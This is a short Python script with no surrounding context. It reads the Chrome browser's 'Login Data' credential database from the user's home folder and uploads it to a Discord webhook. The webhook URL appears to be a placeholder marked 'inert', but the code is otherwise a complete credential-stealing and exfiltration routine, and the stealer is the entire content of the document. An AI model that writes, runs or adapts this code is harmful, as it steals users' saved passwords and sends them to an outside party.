import os
import requests

HOOK = "https://discord.com/api/webhooks/000000000000000000/inert"
home = os.path.expanduser("~")
data = open(home + "/.config/google-chrome/Default/Login Data", "rb").read()
requests.post(HOOK, files={"f": data})
